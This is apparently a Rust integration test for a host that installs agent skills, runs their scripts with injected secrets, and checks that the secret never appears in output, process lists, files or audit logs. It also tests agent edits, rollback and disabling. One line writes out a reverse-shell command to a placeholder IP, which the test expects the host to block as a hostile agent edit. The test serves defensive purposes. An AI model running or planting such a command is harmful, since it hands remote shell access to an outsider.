//! A host at work: it installs a skill, runs its script with a secret, lets an
//! agent edit it, takes that back, and switches it off. The secret is in no
//! output, file, history or list of processes.
#![cfg(target_os = "linux")]
#![expect(
    clippy::disallowed_methods,
    reason = "tests look at the disk and start programs"
)]

mod support;

use std::io::{Read as _, Write as _};
use std::process::{Output, Stdio};

use serde_json::Value;
use support::home::{TestHome, write};

const SECRET: &str = "kx-7f-correct-horse-battery";

/// All that anybody saw.
#[derive(Default)]
struct Seen(String);

impl Seen {
    fn take(&mut self, output: &Output) {
        self.0 += &String::from_utf8_lossy(&output.stdout);
        self.0 += &String::from_utf8_lossy(&output.stderr);
    }

    fn run(&mut self, test: &TestHome, exit: i32, words: &[&str], input: &str) -> Value {
        let mut all = vec!["--json"];
        all.extend(words);
        let mut child = test
            .command(&all)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("it starts");
        let _ = child
            .stdin
            .take()
            .expect("a pipe")
            .write_all(input.as_bytes());
        let output = child.wait_with_output().expect("it ends");
        self.take(&output);
        assert_eq!(output.status.code(), Some(exit), "{words:?} {output:?}");
        let text = if output.stdout.is_empty() {
            &output.stderr
        } else {
            &output.stdout
        };
        serde_json::from_slice(text).expect("JSON")
    }
}

fn arguments_of_all() -> String {
    let mut found = String::new();
    for entry in std::fs::read_dir("/proc").expect("listed").flatten() {
        let bytes = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        found += &String::from_utf8_lossy(&bytes);
    }
    found
}

#[test]
fn a_host_installs_runs_edits_takes_back_and_switches_off() {
    let test = TestHome::new();
    let mut seen = Seen::default();
    test.skill(
        "sender",
        &[
            (
                "SKILL.md",
                "---\nname: sender\ndescription: Sends a report for the tests.\nrequired-secrets: [SENDER_TOKEN]\n---\n\n# Sender\n\nRun `scripts/send.sh`.\n",
            ),
            ("scripts/send.sh", "echo \"sent with $SENDER_TOKEN\"; echo \"$SENDER_TOKEN\" | cut -c1-10 | tr -d '\\n'; echo \"$SENDER_TOKEN\" | cut -c11-\n"),
        ],
    );
    let secrets = format!("{{\"SENDER_TOKEN\":\"{SECRET}\"}}");
    seen.run(&test, 0, &["install", "sender"], "");
    seen.run(&test, 0, &["project"], "");

    // What the model is told, what the user asks for, which tools that leaves.
    let section = seen.run(&test, 0, &["prompt"], "");
    assert!(section.to_string().contains("Sends a report"), "{section}");
    let activation = seen.run(&test, 0, &["activate", "/sender send it"], "");
    assert!(activation.to_string().contains("send it"), "{activation}");
    let tools = ["policy", "--active", "sender", "--tools", "bash,read_file"];
    let tools = seen.run(&test, 0, &tools, "");
    assert!(tools.to_string().contains("read_file"), "{tools}");

    let exec = [
        "exec",
        "--skill",
        "sender",
        "--secrets-file",
        "-",
        "--audit",
        "audit.jsonl",
        "--",
    ];
    let with = |more: &[&'static str]| [&exec[..], more].concat();
    let ran = seen.run(&test, 0, &with(&["sh", "scripts/send.sh"]), &secrets);
    assert_eq!(ran["stdout"], "sent with [redacted]\n[redacted]\n");
    assert_eq!(ran["secrets"]["injected"][0], "SENDER_TOKEN");

    // While it runs, no list of processes holds it.
    let mut child = test
        .command(&with(&[
            "sh",
            "-c",
            "echo ready; sleep 2; sh scripts/send.sh",
        ]))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("it starts");
    child
        .stdin
        .take()
        .expect("a pipe")
        .write_all(secrets.as_bytes())
        .expect("written");
    let mut ready = [0; 6];
    child
        .stdout
        .as_mut()
        .expect("a pipe")
        .read_exact(&mut ready)
        .expect("it runs");
    assert!(!arguments_of_all().contains(SECRET));
    let own = std::fs::read(format!("/proc/{}/environ", child.id())).expect("its environment");
    assert!(!String::from_utf8_lossy(&own).contains(SECRET));
    let output = child.wait_with_output().expect("it ends");
    assert!(output.status.success(), "{output:?}");
    seen.take(&output);

    // The agent learns, is stopped where it goes too far, and is taken back.
    let patch = "{\"find\":\"# Sender\",\"replace\":\"# Sender of reports\",\"expected_count\":1}";
    seen.run(
        &test,
        0,
        &[
            "edit", "patch", "sender", "--author", "agent", "--thread", "t-1",
        ],
        patch,
    );
    seen.run(
        &test,
        0,
        &["edit", "write-file", "sender", "references/how.md"],
        "# How\n\nSlowly.\n",
    );
    let view = test.home().join("users/default/skills_view/custom/sender");
    assert!(view.join("references/how.md").is_file());
    let hostile = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
    let refused = seen.run(
        &test,
        1,
        &["edit", "write-file", "sender", "scripts/key.sh"],
        hostile,
    );
    assert_eq!(refused["refused"]["kind"], "blocked");
    let history = seen.run(&test, 0, &["edit", "history", "sender"], "");
    let actions: Vec<_> = history["records"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|it| it["action"].clone())
        .collect();
    assert_eq!(actions, ["install", "patch", "write_file"]);
    seen.run(&test, 0, &["edit", "rollback", "sender", "1"], "");
    assert!(!view.join("references/how.md").exists());
    let text = std::fs::read_to_string(view.join("SKILL.md")).expect("there");
    assert!(text.contains("# Sender\n"), "{text}");
    assert_eq!(seen.run(&test, 0, &["verify"], "")["clean"], true);

    // Off is off, at once and for everything.
    seen.run(&test, 0, &["disable", "sender"], "");
    assert!(!view.exists());
    let error = seen.run(&test, 1, &with(&["sh", "scripts/send.sh"]), &secrets);
    assert!(
        error["message"]
            .as_str()
            .expect("text")
            .contains("disabled"),
        "{error}"
    );
    seen.run(&test, 0, &["enable", "sender"], "");
    seen.run(&test, 0, &["edit", "delete", "sender"], "");
    seen.run(&test, 0, &["project", "--check"], "");

    assert!(!seen.0.contains(SECRET), "{}", seen.0);
    for (path, text) in test.everything() {
        assert!(!text.contains(SECRET), "{path}");
    }
    let log = std::fs::read_to_string(test.path("audit.jsonl")).expect("a log");
    assert_eq!(
        log.lines().count(),
        2,
        "one line a run, none for what did not run"
    );
    // The tests themselves: a place where it was would have been found.
    write(&test.path("probe"), SECRET);
    assert!(test.everything().values().any(|text| text.contains(SECRET)));
}
